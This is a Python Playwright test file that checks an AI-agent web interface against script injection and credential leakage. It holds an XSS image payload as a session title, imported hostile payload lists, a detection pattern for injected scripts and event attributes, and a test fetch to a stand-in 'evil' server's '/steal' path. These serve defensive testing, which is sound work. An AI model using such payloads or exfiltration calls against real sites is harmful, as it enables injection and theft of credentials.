"""What models, tools, titles and addresses can say to the real page: nothing of it runs, and nothing leaves."""
# ruff: noqa: E501  a payload stays whole

import http.server
import threading
from collections.abc import Sequence
from pathlib import Path
from typing import Any, ClassVar

import pytest
from playwright.sync_api import Browser, expect

from holdfast.core import events as e
from holdfast.core.ids import AskId, CallId, SessionId
from tests.browser.desk import Seat, desk
from tests.browser.written import TURN, Written, write_session
from tests.hostile import PAYLOADS, TAGS
from tests.journeys.house import House
from tests.journeys.person import Person

pytestmark = pytest.mark.browser

FOUND = """() => [...document.querySelectorAll('*')].flatMap((node) => [
  ...(/^(IFRAME|OBJECT|EMBED|BASE|TEMPLATE|MARQUEE|VIDEO|AUDIO|IMG)$/i.test(node.tagName) ? [node.outerHTML.slice(0, 80)] : []),
  ...(node.tagName === 'SCRIPT' && !node.src ? [node.outerHTML.slice(0, 80)] : []),
  ...[...node.attributes].filter((each) => /^on/i.test(each.name) || /^\\s*(java|vb)script:|^\\s*data:text/i.test(each.value))
    .map((each) => `${node.tagName} ${each.name}=${each.value.slice(0, 60)}`),
])"""


def expect_nothing_ran(seat: Seat) -> None:
    assert seat.page.evaluate("window.hits") == 0
    assert seat.page.evaluate(FOUND) == []


def expect_harmless(seat: Seat) -> None:
    expect_nothing_ran(seat)
    links = seat.page.locator('a[href^="http"], a[target]').all()
    assert links
    for link in links:
        assert "noopener" in (link.get_attribute("rel") or "")


def test_class_10_nothing_that_is_said_runs_in_the_page(chromium: Browser, house: House, person: Person) -> None:
    """As words, as thoughts, as what a tool was called and printed, as a title, and as a person's own message."""
    assert len(PAYLOADS) >= 60
    with desk(chromium, house) as place:
        place.context.add_init_script("window.hits = 0; window.hit = () => { window.hits += 1 }")
        session = person.begin(title="<img src=x onerror=hit()>")
        lines = [f"!say {payload}" for payload in PAYLOADS]
        lines += [f"!think {payload}" for payload in PAYLOADS[::7]]
        lines += [
            f'!tool {name} {{"x": "y"}} 1 {payload}' for name, payload in zip("abcdefgh", TAGS[::8], strict=False)
        ]
        lines += ["!say over"]
        turn = person.say(session, "\n".join(lines))
        person.wait_for_end(session, turn)
        seat = place.tab(session)
        expect(seat.page.get_by_text("over", exact=True).last).to_be_visible()
        for step in seat.page.locator("summary").all():
            if step.is_visible():
                step.click()
        expect_harmless(seat)
        seat.page.reload()
        expect(seat.page.get_by_text("over", exact=True).last).to_be_visible()
        expect_harmless(seat)


TOGETHER = 13
"""Payloads of one session: what a page shows of it at once."""


def hostile(payloads: Sequence[str]) -> Written:
    """A run that says them in every place that is no prose."""
    facts: list[e.AnyFact] = [e.PlanReplaced(turn=TURN, entries=tuple(e.PlanEntry(text=each) for each in payloads))]
    for number, each in enumerate(payloads):
        diff, call = e.Diff(path=each, old="a\n", new=f"{each}\n"), CallId(f"c{number}")
        facts += [
            e.ToolChanged(turn=TURN, call=call, first=True, name=each, title=each, action="edit", diffs=(diff,)),
            e.ToolChanged(turn=TURN, call=call, error=each, status="failed"),
            e.NoticeRaised(turn=TURN, text=each),
            e.ApprovalRequested(
                turn=TURN, ask=AskId(f"a{number}"), command=each, description=each, directory=each, diffs=(diff,)
            ),
            e.QuestionAsked(turn=TURN, ask=AskId(f"q{number}"), text=each, choices=(each, "other")),
        ]
    return "Do it.", [*facts, e.TurnEnded(turn=TURN, outcome="failed", error="\n".join(payloads))]


def test_nothing_runs_in_asks_plans_notices_errors_and_diffs(chromium: Browser, tmp_path: Path) -> None:
    """What is no prose is no markup either: it stands there as it is."""
    with House(tmp_path / "home") as house:
        parts = [PAYLOADS[first : first + TOGETHER] for first in range(0, len(PAYLOADS), TOGETHER)]
        for number, payloads in enumerate(parts):
            write_session(house.home, SessionId(f"h{number}"), [hostile(payloads)], payloads[0])
        house.start()
        with desk(chromium, house) as place:
            place.context.add_init_script("window.hits = 0; window.hit = () => { window.hits += 1 }")
            for number, payloads in enumerate(parts):
                seat = place.tab(f"h{number}")
                expect(seat.page.get_by_text(payloads[-1]).last).to_be_attached()
                for step in seat.page.locator("summary").all():
                    if step.is_visible():
                        step.click()
                expect_nothing_ran(seat)
                seat.page.close()


def test_nothing_runs_in_a_card_that_waits(chromium: Browser, house: House, person: Person) -> None:
    """An approval and a question that a person is looking at right now, and in what is told of them elsewhere."""
    session = person.begin()
    with desk(chromium, house) as place:
        place.context.add_init_script("window.hits = 0; window.hit = () => { window.hits += 1 }")
        seat = place.tab(session)
        for payload in TAGS[::6]:
            plain = payload.replace("|", "")
            turn = person.say(session, f"!approve {plain}\n!ask {plain} | {plain} | other")
            (ask,) = person.wait_for_ask(session)
            expect(seat.page.get_by_role("button", name="Deny", exact=True)).to_be_visible()
            expect_nothing_ran(seat)
            person.answer(session, ask["ask"], choice="deny").raise_for_status()
            (ask,) = person.wait_for_ask(session)
            expect(seat.page.get_by_text("other", exact=True).last).to_be_visible()
            expect_nothing_ran(seat)
            person.answer(session, ask["ask"], text="other").raise_for_status()
            person.wait_for_end(session, turn)


class Elsewhere(http.server.BaseHTTPRequestHandler):
    """Another server that would like to know the credential."""

    heard: ClassVar[list[str]] = []

    def do_GET(self) -> None:
        self.heard.append(self.path)
        self.send_response(200)
        self.send_header("access-control-allow-origin", "*")
        self.send_header("access-control-allow-headers", "*")
        self.end_headers()

    do_POST = do_OPTIONS = do_GET  # noqa: N815  so is this

    def log_message(self, format: str, *args: Any) -> None:  # noqa: A002  and this
        pass


def test_class_03_no_address_in_the_url_gets_the_credential(chromium: Browser, own_house: House) -> None:
    """The page talks to whoever sent it, whatever its address says."""
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Elsewhere) as other:
        thread = threading.Thread(target=other.serve_forever)
        thread.start()
        evil = f"http://127.0.0.1:{other.server_address[1]}"
        try:
            with desk(chromium, own_house) as place:
                for name in ("server", "api", "base", "gatewayUrl", "host", "ws", "url", "redirect", "next"):
                    seat = place.tab()
                    seat.page.goto(f"{own_house.server.link}/?{name}={evil}#{name}={evil}")
                    expect(seat.page.get_by_role("heading", name="What should be done?")).to_be_visible()
                    seat.page.close()
                seat = place.tab()
                tried = seat.page.evaluate(f"fetch('{evil}/steal').then(() => 'sent', () => 'blocked')")
                assert tried == "blocked", "the content policy lets the page talk to nobody else"
        finally:
            other.shutdown()
            thread.join()
    assert Elsewhere.heard == []
